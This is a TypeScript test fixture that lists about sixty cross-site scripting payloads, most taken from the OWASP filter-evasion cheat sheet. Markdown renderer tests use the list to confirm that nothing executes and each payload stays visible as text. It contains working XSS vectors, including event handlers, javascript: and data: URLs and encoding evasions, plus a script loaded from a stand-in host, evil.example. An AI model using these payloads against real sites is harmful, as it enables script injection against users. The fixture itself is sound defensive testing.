/**
 * Known cross-site scripting payloads (most from the OWASP XSS filter evasion cheat sheet),
 * written as Markdown a user could type. The Markdown renderer's unit test
 * (Markdown.xss.test.ts) and the browser test (tests/e2e/xss.test.ts) both check every one:
 * nothing runs, no dangerous element or attribute comes out, and what the user typed stays
 * readable as text.
 *
 * Each payload that would run script calls `alert`, `confirm`, `prompt`, `print` or
 * `window.__xss.push` — the browser test records those.
 */
export interface XssPayload {
  name: string;
  /** The Markdown as typed. */
  source: string;
  /** Text that must be visible on the page after rendering (the payload shown as text). */
  visible: string;
}

const B64_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // ---- Raw HTML (off: it must show as text)
  { name: 'script element', source: "<script>alert('script')</script>", visible: "<script>alert('script')</script>" },
  { name: 'script with src', source: '<script src="/api/session"></script><SCRIPT SRC=//evil.example/x.js></SCRIPT>', visible: '<SCRIPT SRC=//evil.example/x.js>' },
  { name: 'img onerror', source: '<img src=x onerror=alert(1)>', visible: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror, no quotes or spaces', source: '<IMG/SRC="x"/ONERROR=alert(String.fromCharCode(88,83,83))>', visible: 'ONERROR=alert(String.fromCharCode(88,83,83))' },
  { name: 'svg onload', source: '<svg onload=alert(1)>', visible: '<svg onload=alert(1)>' },
  { name: 'svg with script', source: '<svg><script>window.__xss.push("svg")</script></svg>', visible: '<svg><script>' },
  { name: 'iframe javascript src', source: '<iframe src="javascript:alert(1)"></iframe>', visible: '<iframe src="javascript:alert(1)">' },
  { name: 'iframe srcdoc', source: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', visible: 'srcdoc=' },
  { name: 'body onload', source: '<body onload=alert(1)>', visible: '<body onload=alert(1)>' },
  { name: 'style import', source: "<style>@import 'http://evil.example/x.css';</style>", visible: '@import' },
  { name: 'style expression', source: '<div style="background:url(javascript:alert(1))">div</div>', visible: 'background:url(javascript:alert(1))' },
  {
    name: 'math/mglyph/style mutation (mXSS)',
    source: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    visible: '<mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'details ontoggle', source: '<details open ontoggle=alert(1)><summary>s</summary></details>', visible: '<details open ontoggle=alert(1)>' },
  { name: 'a href javascript', source: '<a href="javascript:alert(1)">click me</a>', visible: '<a href="javascript:alert(1)">' },
  { name: 'a href entity-encoded javascript', source: '<a href="&#106;avascript:alert(1)">x</a>', visible: 'avascript:alert(1)' },
  { name: 'object data', source: '<object data="javascript:alert(1)"></object>', visible: '<object data=' },
  { name: 'embed data URL', source: `<embed src="data:text/html;base64,${B64_SCRIPT}">`, visible: '<embed src=' },
  { name: 'input autofocus onfocus', source: '<input onfocus=alert(1) autofocus>', visible: '<input onfocus=alert(1) autofocus>' },
  { name: 'form action', source: '<form action="javascript:alert(1)"><button>go</button></form>', visible: '<form action=' },
  { name: 'meta refresh', source: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', visible: 'http-equiv' },
  { name: 'base href', source: '<base href="javascript:alert(1)//">', visible: '<base href=' },
  { name: 'noscript breakout', source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', visible: '</noscript>' },
  { name: 'template', source: '<template><img src=x onerror=alert(1)></template>', visible: '<template>' },
  { name: 'html comment', source: '<!--><img src=x onerror=alert(1)>-->', visible: '<!-->' },
  { name: 'table cell with HTML', source: '| <img src=x onerror=alert(1)> |\n| --- |\n| cell |', visible: '<img src=x onerror=alert(1)>' },

  // ---- Markdown links (markdown-it's link check, then our allow-list)
  { name: 'link javascript:', source: '[x](javascript:alert(1))', visible: 'javascript:alert(1)' },
  { name: 'link mixed-case scheme', source: '[x](JaVaScRiPt:alert(1))', visible: 'JaVaScRiPt:alert(1)' },
  { name: 'link tab entity inside scheme', source: '[x](java&#x09;script:alert(1))', visible: 'x' },
  { name: 'link tab inside angle-bracket destination', source: '[x](<java\tscript:alert(1)>)', visible: 'x' },
  { name: 'link newline entity before scheme', source: '[x](&#x0A;javascript:alert(1))', visible: 'x' },
  { name: 'link decimal entity', source: '[x](&#106;avascript:alert(1))', visible: 'x' },
  {
    name: 'link hex entities',
    source: '[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))',
    visible: 'x',
  },
  { name: 'link &colon; entity', source: '[x](javascript&colon;alert(1))', visible: 'x' },
  { name: 'link backslash-escaped colon', source: '[x](javascript\\:alert(1))', visible: 'x' },
  { name: 'link javascript with comment and newline', source: '[x](javascript://%0Aalert(1))', visible: 'x' },
  { name: 'link fullwidth scheme', source: '[x](ｊａｖａｓｃｒｉｐｔ:alert(1))', visible: 'x' },
  { name: 'link vbscript', source: '[x](vbscript:msgbox(1))', visible: 'vbscript:msgbox(1)' },
  { name: 'link data text/html', source: `[x](data:text/html;base64,${B64_SCRIPT})`, visible: 'data:text/html' },
  { name: 'link data image', source: '[x](data:image/png;base64,iVBORw0KGgo=)', visible: 'x' },
  { name: 'link data svg', source: '[x](data:image/svg+xml,<svg onload=alert(1)>)', visible: 'x' },
  { name: 'link file', source: '[x](file:///etc/passwd)', visible: 'x' },
  {
    name: 'link title breaking out of its quotes',
    source: '[x](https://example.org "x\\" onmouseover=\\"alert(1)")',
    visible: 'x',
  },
  { name: 'link text with HTML', source: '[<img src=x onerror=alert(1)>](https://example.org)', visible: '<img src=x onerror=alert(1)>' },
  { name: 'link destination with quotes', source: '[x](https://example.org/"onmouseover="alert(1))', visible: 'x' },
  { name: 'nested brackets', source: '[[x](javascript:alert(1))](https://example.org/ok)', visible: 'javascript:alert(1)' },
  { name: 'reference-style link', source: '[ref][xss-ref]\n\n[xss-ref]: javascript:alert(1)', visible: '[ref]' },
  { name: 'reference-style link with title', source: '[ref2][xss-ref2]\n\n[xss-ref2]: https://example.org "a\\" onclick=\\"alert(1)"', visible: 'ref2' },
  { name: 'autolink javascript', source: '<javascript:alert(1)>', visible: '<javascript:alert(1)>' },
  { name: 'autolink data', source: `<data:text/html;base64,${B64_SCRIPT}>`, visible: 'data:text/html' },
  { name: 'autolink with quote', source: '<https://example.org/a"onmouseover="alert(1)>', visible: 'example.org' },
  { name: 'bare javascript: text (linkify)', source: 'see javascript:alert(1) and www.example.org/"onmouseover="alert(1)', visible: 'javascript:alert(1)' },
  { name: 'image javascript', source: '![x](javascript:alert(1))', visible: '![x](javascript:alert(1))' },
  { name: 'image with onerror in alt', source: '![x" onerror="alert(1)](https://example.org/x.png)', visible: 'onerror=' },
  { name: 'image reference', source: '![img][xss-img]\n\n[xss-img]: https://example.org/x.png', visible: '!' },
  { name: 'code fence with script', source: '```html\n<script>alert(1)</script>\n```', visible: '<script>alert(1)</script>' },
  { name: 'inline code with script', source: '`<img src=x onerror=alert(1)>`', visible: '<img src=x onerror=alert(1)>' },
  {
    name: 'Persian text around payloads',
    source: 'متن فارسی [پیوند](javascript:alert(1)) و <img src=x onerror=alert(1)> و <script>print()</script> پایان',
    visible: '<script>print()</script>',
  },
  { name: 'Arabic text with confirm and prompt', source: 'نص عربي <svg/onload=confirm(1)> و [رابط](javascript:prompt(1))', visible: '<svg/onload=confirm(1)>' },
  { name: 'heading with event handler text', source: '# <h1 onclick=alert(1)>heading</h1>', visible: '<h1 onclick=alert(1)>' },
  { name: 'blockquote with HTML', source: '> <img src=x onerror=alert(1)>', visible: '<img src=x onerror=alert(1)>' },
];
